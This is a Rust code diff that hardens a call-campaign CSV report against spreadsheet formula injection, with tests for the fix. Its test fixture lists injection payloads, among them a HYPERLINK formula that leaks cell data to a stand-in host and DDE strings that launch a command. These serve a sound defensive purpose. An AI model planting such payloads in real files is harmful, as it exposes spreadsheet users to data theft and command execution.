@@ -1,11 +1,14 @@
 //! `campaign report`: one row per call of a campaign (oldest first) with
 //! its lead, outcome, duration, end reason, summary and recording path, as
 //! a table, CSV or JSON. This is the operator's export, so numbers and
-//! names are written in full.
+//! names are written in full. Every CSV cell goes through
+//! [`neutralize`], so a lead name or summary like `=HYPERLINK(...)` is
+//! text, not a formula, when the file is opened in a spreadsheet.
 
 use std::io::Write;
 
 use callbridge::api::outcome_of;
+use callbridge::csv_cell::neutralize;
 use callbridge_crm_store::{Session, SessionFilter, Store};
 use serde::Serialize;
 
@@ -38,6 +41,42 @@ pub struct Row {
     pub summary: String,
     /// The recording file.
     pub recording: String,
+}
+
+/// The CSV header, in [`Row::cells`] order.
+const HEADER: [&str; 11] = [
+    "started",
+    "session",
+    "lead",
+    "phone",
+    "name",
+    "outcome",
+    "duration_s",
+    "end_reason",
+    "sip_status",
+    "summary",
+    "recording",
+];
+
+impl Row {
+    /// The row's CSV cells, in [`HEADER`] order (numbers as text, absent
+    /// values empty).
+    fn cells(&self) -> [String; 11] {
+        let opt = |v: Option<String>| v.unwrap_or_default();
+        [
+            self.started.clone(),
+            self.session.clone(),
+            opt(self.lead.map(|l| l.to_string())),
+            self.phone.clone(),
+            self.name.clone(),
+            self.outcome.clone(),
+            opt(self.duration_s.map(|d| format!("{d:?}"))),
+            self.end_reason.clone(),
+            opt(self.sip_status.map(|s| s.to_string())),
+            self.summary.clone(),
+            self.recording.clone(),
+        ]
+    }
 }
 
 fn row(store: &Store, s: &Session) -> Result<Row> {
@@ -135,26 +174,12 @@ pub fn write(rows: &[Row], format: Format, out: &mut impl Write) -> Result<()> {
             writeln!(out).map_err(io)?;
         }
         Format::Csv => {
+            let failed = |e: csv::Error| CampaignError::Failed(format!("report: {e}"));
             let mut w = csv::Writer::from_writer(&mut *out);
+            w.write_record(HEADER).map_err(failed)?;
             for r in rows {
-                w.serialize(r)
-                    .map_err(|e| CampaignError::Failed(format!("report: {e}")))?;
-            }
-            if rows.is_empty() {
-                w.write_record([
-                    "started",
-                    "session",
-                    "lead",
-                    "phone",
-                    "name",
-                    "outcome",
-                    "duration_s",
-                    "end_reason",
-                    "sip_status",
-                    "summary",
-                    "recording",
-                ])
-                .map_err(|e| CampaignError::Failed(format!("report: {e}")))?;
+                w.write_record(r.cells().iter().map(|c| neutralize(c).into_owned()))
+                    .map_err(failed)?;
             }
             w.flush().map_err(io)?;
         }
@@ -187,4 +212,63 @@ pub fn write(rows: &[Row], format: Format, out: &mut impl Write) -> Result<()> {
         }
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn row(name: &str, summary: &str) -> Row {
+        Row {
+            started: "2026-01-01T00:00:00Z".into(),
+            session: "6f1c1f7e-58a3-4a47-9f53-2b1b2e6f7a10".into(),
+            lead: Some(7),
+            phone: "+14155550100".into(),
+            name: name.into(),
+            outcome: "completed".into(),
+            duration_s: Some(2.0),
+            end_reason: "caller-hangup".into(),
+            sip_status: None,
+            summary: summary.into(),
+            recording: "-rec.wav".into(),
+        }
+    }
+
+    fn csv_of(rows: &[Row]) -> Vec<csv::StringRecord> {
+        let mut out = Vec::new();
+        write(rows, Format::Csv, &mut out).unwrap();
+        let mut rdr = csv::Reader::from_reader(out.as_slice());
+        assert_eq!(
+            rdr.headers().unwrap(),
+            &csv::StringRecord::from(HEADER.to_vec())
+        );
+        rdr.records().map(|r| r.unwrap()).collect()
+    }
+
+    #[test]
+    fn csv_injection_cells_are_written_as_text() {
+        let attacks = [
+            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")",
+            "+cmd|' /C calc'!A0",
+            "-1+cmd|' /C calc'!A0",
+            "@SUM(A1:A9)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let rows: Vec<Row> = attacks.iter().map(|a| row(a, a)).collect();
+        let records = csv_of(&rows);
+        for (rec, attack) in records.iter().zip(attacks) {
+            let quoted = format!("'{attack}");
+            assert_eq!(&rec[4], quoted.as_str(), "name");
+            assert_eq!(&rec[9], quoted.as_str(), "summary");
+            assert_eq!(&rec[10], "'-rec.wav", "recording");
+            assert_eq!(&rec[3], "+14155550100", "a phone number stays a number");
+            assert_eq!((&rec[2], &rec[6]), ("7", "2.0"));
+        }
+    }
+
+    #[test]
+    fn an_empty_report_is_just_the_header() {
+        assert!(csv_of(&[]).is_empty());
+    }
 }
